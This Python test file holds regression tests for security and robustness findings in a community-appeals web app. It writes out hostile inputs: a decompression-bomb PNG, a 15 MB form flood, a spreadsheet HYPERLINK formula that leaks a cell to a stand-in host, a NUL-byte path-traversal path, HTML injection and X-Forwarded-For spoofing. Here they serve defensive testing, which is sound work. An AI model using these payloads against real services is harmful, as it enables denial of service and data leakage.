"""What the outside client and the security probe found (issue 10, points 3 and 4), one test per
finding, each reproducing the report against the real app."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import struct
import zlib
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from server.app import create_app
from server.models import Appeal, AppealChannel, Enterprise, MediationCase, PlaceKind, Role, SubmitterKind, Visit
from server.services import api_keys, appeals, enterprises, places
from server.services.credit_code import make_code, organisation_code
from server.services.appeals import Actor, AppealInput
from server.services.deadlines import TimeLimits
from server.settings import Settings
from tests.conftest import TEST_PASSWORD
from tests.databases import Databases, run_isolated, settings_for
from tests.helpers import Web
from tests.integration.sync_world import PASSWORD as SYNC_PASSWORD, Device, make_world
from tests.servers import LiveServer

GOOD = {"audience": "resident", "category": "environment", "description": "楼道里堆满了杂物，影响通行。"}


async def suggest(web: Web, fields: dict[str, str], files: list | None = None) -> httpx.Response:
    token = await web.csrf("/suggest")
    return await web.client.post("/suggest", data={**fields, "_csrf_token": token}, files=files or [("photos", ("", b"", "application/octet-stream"))])


# --- 3. Smaller defects ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/service-worker.js", "/login", "/healthz", "/manifest.webmanifest", "/suggest", "/static/css/app.css"])
async def test_head_answers_like_get_without_a_body(client: AsyncTestClient, path: str) -> None:
    got = await client.get(path)
    head = await client.head(path)
    assert (head.status_code, head.headers.get("content-type")) == (got.status_code, got.headers.get("content-type"))
    assert head.status_code == 200 and head.content == b""


async def test_printed_and_sent_links_use_the_public_address(settings: Settings, db: AsyncSession, people: dict[Role, str]) -> None:
    """A poster printed from a staff laptop on another host still carries the public address."""
    sub = await places.create_place(db, kind=PlaceKind.SUBDISTRICT, name="解放路街道")
    await db.commit()
    app = create_app(replace(settings, public_url="https://shanzhi.jiefanglu.example.cn"))
    async with AsyncTestClient(app=app, base_url="http://staff-laptop.local:8000") as client:
        client.follow_redirects = False
        web = Web(client)
        await web.login(people[Role.STAFF], TEST_PASSWORD)
        poster = (await client.get(f"/places/{sub.code}/poster")).text
        assert f"https://shanzhi.jiefanglu.example.cn/suggest/{sub.code}" in poster
        assert "staff-laptop.local" not in poster
        discovery = (await client.get("/open311/discovery.json")).json()
        assert discovery["endpoints"][0]["url"] == "https://shanzhi.jiefanglu.example.cn/open311/v2"
    assert Settings.from_env({"SHANZHI_VAR_DIR": str(settings.var_dir), "SHANZHI_PUBLIC_URL": "https://a.example/"}).public_url == "https://a.example"
    with pytest.raises(ValueError, match="SHANZHI_PUBLIC_URL"):
        Settings.from_env({"SHANZHI_VAR_DIR": str(settings.var_dir), "SHANZHI_PUBLIC_URL": "a.example"})


async def test_open311_gives_the_description_to_a_partner_with_a_key_only(client: AsyncTestClient, db: AsyncSession, settings: Settings) -> None:
    text = "三号楼张先生家门口的下水道堵了，电话13800001234"
    appeal = await appeals.submit(
        db, AppealInput(channel=AppealChannel.HOTLINE, submitter_kind=SubmitterKind.RESIDENT, category="facilities", description=text),
        actor=Actor.submitter(), limits=TimeLimits.from_settings(settings), uploads_dir=settings.uploads_dir,
    )
    key_row, key = await api_keys.create(db, "12345热线平台")
    await db.commit()
    public = (await client.get("/open311/v2/requests.json")).json()
    assert [r["description"] for r in public] == [None]
    partner = (await client.get("/open311/v2/requests.json", params={"api_key": key})).json()
    assert [r["description"] for r in partner] == [text]
    one = (await client.get(f"/open311/v2/requests/{appeal.reference}.json", params={"api_key": key})).json()
    assert one[0]["description"] == text
    await api_keys.revoke(db, key_row.id)
    await db.commit()
    assert (await client.get("/open311/v2/requests.json", params={"api_key": key})).json()[0]["description"] is None


async def test_an_over_long_location_is_refused_not_cut(web: Web, db: AsyncSession, english: None) -> None:
    response = await suggest(web, {**GOOD, "location_detail": "门" * 300})
    assert response.status_code == 400
    assert "Please keep the location under 255 characters." in response.text
    assert await db.scalar(select(Appeal.id)) is None


async def test_notification_log_lines_are_formatted(db: AsyncSession, settings: Settings, people: dict[Role, str], caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="shanzhi.notifications")
    appeal = await appeals.submit(
        db, AppealInput(channel=AppealChannel.HOTLINE, submitter_kind=SubmitterKind.RESIDENT, category="facilities", description="楼道灯坏了三天，晚上很黑"),
        actor=Actor.submitter(), limits=TimeLimits.from_settings(settings), uploads_dir=settings.uploads_dir,
    )
    await db.commit()
    lines = [r.getMessage() for r in caplog.records if r.name == "shanzhi.notifications"]
    assert lines and all(f"新诉求 {appeal.reference}" in line for line in lines)
    assert not [line for line in lines if "%(" in line]


# --- 4. The security probe ----------------------------------------------------------------------------------


def one_colour_png(size: int) -> bytes:
    """The probe's image: a one-colour PNG of size x size, a few hundred KB (built row by row, cheaply)."""
    row = b"\x00" + b"\xff" * size
    raw = zlib.compress(row * size, 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0)) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


async def test_small_files_with_huge_pictures_are_refused_without_decoding(web: Web, db: AsyncSession, english: None) -> None:
    bomb = one_colour_png(8900)
    assert len(bomb) < 1_000_000
    response = await suggest(web, GOOD, [("photos", (f"p{i}.png", bomb, "image/png")) for i in range(3)])
    assert response.status_code == 400
    # This message comes from the size in the picture's header, checked before any pixel is decoded
    # (the decode took 4-14 s; the time itself is measured in bench/, not here).
    assert "This photo is too large to process; please send a smaller one." in response.text
    assert await db.scalar(select(Appeal.id)) is None


async def test_big_text_bodies_are_refused_before_they_are_read(client: AsyncTestClient, web: Web) -> None:
    """A 15 MB `a=b&…` form used to stall the server for seconds; a text form is small now."""
    token = await web.csrf("/suggest")
    flood = f"_csrf_token={token}&".encode() + b"a=b&" * (4 * 1024 * 1024 // 4)
    suggested = await client.post("/suggest", content=flood, headers={"content-type": "application/x-www-form-urlencoded"})
    login = await client.post("/login", content=flood[: 2 * 1024 * 1024], headers={"content-type": "application/x-www-form-urlencoded"})
    assert (suggested.status_code, login.status_code) == (413, 413)
    # Refused on the declared length: a request that only claims to be big is refused the same way
    # (how long it takes belongs in bench/, not here; how much is read, in the test below).
    small = f"_csrf_token={token}&a=b".encode()
    claimed = await client.post(
        "/suggest", content=small,
        headers={"content-type": "application/x-www-form-urlencoded", "content-length": str(5 * 1024 * 1024)},
    )
    assert claimed.status_code == 413


async def post_raw(app: Litestar, path: str, chunks: list[bytes], headers: dict[str, str]) -> tuple[int, int]:
    """POST as a server hands a request to the app, one chunk per `receive`; (status, body bytes the app read)."""
    read = 0
    pending = list(chunks)
    status = 0

    async def receive() -> dict[str, Any]:
        nonlocal read
        chunk = pending.pop(0) if pending else b""
        read += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": bool(pending)}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "", "client": ("127.0.0.1", 50000),
        "server": ("testserver.local", 80), "state": {},
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
    }
    await app(scope, receive, send)  # type: ignore[arg-type]
    return status, read


async def test_a_big_text_body_is_refused_without_being_read(app: Litestar, client: AsyncTestClient, web: Web) -> None:
    """A 15 MB `a=b&…` form to /suggest (whose limit is 16 MB, for photos) is refused having read at most
    the 64 KB a text form may have, announced or streamed without a length (chunked): the server does
    not parse it, and the rest of the upload is never waited for."""
    token = await web.csrf("/suggest")
    cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    flood = f"_csrf_token={token}&".encode() + b"a=b&" * (15 * 1024 * 1024 // 4)
    chunks = [flood[i:i + 16 * 1024] for i in range(0, len(flood), 16 * 1024)]
    form = {"content-type": "application/x-www-form-urlencoded", "cookie": cookie}
    announced = await post_raw(app, "/suggest", chunks, {**form, "content-length": str(len(flood))})
    streamed = await post_raw(app, "/suggest", chunks, form)
    assert announced == (413, 0)
    assert streamed[0] == 413 and streamed[1] <= 64 * 1024 + 16 * 1024
    # Routes whose photos may be big take a text form of the app-wide size only.
    staff_form = await post_raw(app, "/projects/00000000-0000-0000-0000-000000000000/updates", chunks, form)
    assert staff_form[0] == 413 and staff_form[1] <= 256 * 1024 + 16 * 1024
    # The server answers the next request as usual.
    assert (await client.get("/healthz")).status_code == 200


async def test_refused_submissions_count_towards_a_limit(web: Web) -> None:
    from server.routes.suggest import REFUSED_LIMIT

    for _ in range(REFUSED_LIMIT):
        assert (await suggest(web, {**GOOD, "description": "短"})).status_code == 400
    assert (await suggest(web, GOOD)).status_code == 429


async def test_no_spreadsheet_formula_leaves_in_an_export(web: Web, client: AsyncTestClient, db: AsyncSession, people: dict[Role, str]) -> None:
    formula = '=HYPERLINK("http://x/?p="&Q2,"点击查看")'
    assert (await suggest(web, {**GOOD, "submitter_name": "=1+2", "description": formula, "location_detail": "@SUM(A1)"})).status_code == 303
    await web.login(people[Role.STAFF], TEST_PASSWORD)
    exported = (await client.get("/appeals/export.csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    cells = [c for row in rows for c in row]
    assert "'=1+2" in cells and "'" + formula in cells and "'@SUM(A1)" in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    # The enterprise registry and its import template too; the export still imports back unchanged.
    data = enterprises.EnterpriseInput(credit_code=make_code("9", "1", "370102", organisation_code("00000077")), name=formula,
                                       contact_name="@SUM(A1)", contact_phone="+86 531 8600 0000")
    await enterprises.save(db, data)
    await db.commit()
    registry = (await client.get("/enterprises/export.csv")).content.decode("utf-8-sig")
    template = (await client.get("/enterprises/import/template.csv")).content.decode("utf-8-sig")
    cells = [c for text in (registry, template) for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + formula in cells and "'@SUM(A1)" in cells and "'+86 531 8600 0000" in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    token = await web.csrf("/enterprises/import")
    imported = await client.post("/enterprises/import", data={"_csrf_token": token}, files={"file": ("e.csv", registry.encode(), "text/csv")})
    assert imported.status_code == 200, imported.text[:300]
    db.expire_all()
    saved = await db.scalar(select(Enterprise))
    assert saved is not None and (saved.name, saved.contact_name, saved.contact_phone, saved.version) == (formula, "@SUM(A1)", "+86 531 8600 0000", 2)


@pytest.mark.parametrize("client_name", ["<b>K</b>", "热线 100%"])
async def test_a_client_name_is_shown_as_text_on_the_timeline(client_name: str, web: Web, client: AsyncTestClient, db: AsyncSession, people: dict[Role, str]) -> None:
    sub = await places.create_place(db, kind=PlaceKind.SUBDISTRICT, name="解放路街道")
    _row, key = await api_keys.create(db, client_name)
    await db.commit()
    posted = await client.post(
        "/open311/v2/requests.json",
        data={"api_key": key, "service_code": "facilities", "description": "小区门口路灯不亮，晚上很不安全", "address_id": sub.code},
    )
    assert posted.status_code == 200
    reference = posted.json()[0]["service_request_id"]
    await web.login(people[Role.STAFF], TEST_PASSWORD)
    page = await client.get(f"/appeals/{reference}")
    assert page.status_code == 200
    assert "<b>K</b>" not in page.text
    if client_name == "<b>K</b>":
        assert "&lt;b&gt;K&lt;/b&gt;" in page.text
    else:
        assert "热线 100%" in page.text


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/api/stats/appeals?from=0001-01-01", 400),
        ("/open311/v2/requests.json?end_date=0001-01-01", 400),
        ("/open311/v2/requests.json?start_date=9999-12-31", 400),
        ("/static/%00../pyproject.toml", 400),
        ("/appeals/2026-0%000001", 400),
    ],
)
async def test_out_of_range_input_is_a_clear_400(client: AsyncTestClient, path: str, status: int) -> None:
    response = await client.get(path)
    assert response.status_code == status


async def test_out_of_range_dates_in_staff_filters_are_dropped(client: AsyncTestClient, web: Web, people: dict[Role, str]) -> None:
    await web.login(people[Role.STAFF], TEST_PASSWORD)
    assert (await client.get("/appeals?from=9999-12-31")).status_code == 200
    assert (await client.get("/appeals/export.csv?from=0001-01-01")).status_code == 200
    dashboard = await client.get("/stats/appeals?from=0001-01-01")
    assert dashboard.status_code == 400 and "2000-01-01" in dashboard.text


async def test_a_nul_byte_in_a_form_or_a_cookie_is_no_500(web: Web, client: AsyncTestClient, db: AsyncSession) -> None:
    """PostgreSQL refuses NUL in text: the resident's text is kept without it (the same on SQLite)."""
    response = await suggest(web, {**GOOD, "description": "楼道里堆满了杂物\x00，影响通行。"})
    assert response.status_code == 303
    stored = await db.scalar(select(Appeal.description))
    assert stored == "楼道里堆满了杂物，影响通行。"
    client.cookies.set("shanzhi_session", "abc\x00def")
    assert (await client.get("/suggest")).status_code == 200


async def test_a_nul_byte_bound_for_a_json_column_is_no_500(web: Web, db: AsyncSession, people: dict[Role, str]) -> None:
    """PostgreSQL refuses NUL in JSONB as in text (`\\u0000`): a mediation party's name is kept without it."""
    await web.login(people[Role.STAFF], TEST_PASSWORD)
    case = {"kind": "noise", "opened_on": datetime.now(UTC).date().isoformat(), "place_id": "", "mediator_id": "",
            "summary": "楼上夜间噪声扰民，双方多次争执", "party_name": "宇文\x00拓海", "party_phone": "13800001234"}
    saved = await web.post_form("/mediation/cases/new", case)
    assert saved.status_code == 303, saved.text[:300]
    assert [party["name"] for party in (await db.scalar(select(MediationCase.parties))) or []] == ["宇文拓海"]


async def test_a_nul_byte_in_a_synced_visit_is_no_500(client: AsyncTestClient, web: Web, db: AsyncSession, settings: Settings) -> None:
    """A batch that answered 500 would be sent again forever: a NUL in a visit's policies is dropped."""
    world = await make_world(settings)
    await web.login("grid", SYNC_PASSWORD)
    phone = Device()
    visit = phone.mutation("visit", "create", {
        "subject_kind": "household", "subject_name": "东舍坊小区3号楼", "purpose": "first",
        "place_id": str(world.compound.id), "policies": ["高龄\x00津贴"], "appeals": [],
    })
    pushed = await client.post("/sync/push", json=phone.batch(visit), headers=phone.headers)
    assert pushed.status_code == 200, pushed.text[:300]
    assert pushed.json()["results"][0]["status"] == "applied"
    assert await db.scalar(select(Visit.policies)) == ["高龄津贴"]


def test_a_forwarded_address_is_not_believed_from_an_unnamed_proxy(databases: Databases, tmp_path: Path) -> None:
    """Without SHANZHI_TRUSTED_PROXIES, X-Forwarded-For changes nothing: a flood cannot claim to be
    ten different residents."""
    settings = settings_for(databases.fresh("schema", tmp_path), tmp_path / "var")
    server = LiveServer(settings=settings, log_path=tmp_path / "server.log")
    server.start()
    try:
        statuses = run_isolated(asyncio.run, _flood(server.url, settings.suggest_rate_limit + 1))
    finally:
        server.stop()
    assert statuses[:-1] == [303] * settings.suggest_rate_limit
    assert statuses[-1] == 429


async def _flood(url: str, count: int) -> list[int]:
    async with httpx.AsyncClient(base_url=url) as client:
        statuses = []
        for n in range(count):
            page = await client.get("/suggest")
            token = page.text.split('name="csrf-token" content="')[1].split('"')[0]
            response = await client.post(
                "/suggest", data={**GOOD, "description": f"{GOOD['description']} 第{n}次", "_csrf_token": token},
                files=[("photos", ("", b"", "application/octet-stream"))],
                headers={"X-Forwarded-For": f"10.1.{n}.{n}"},
            )
            statuses.append(response.status_code)
        return statuses

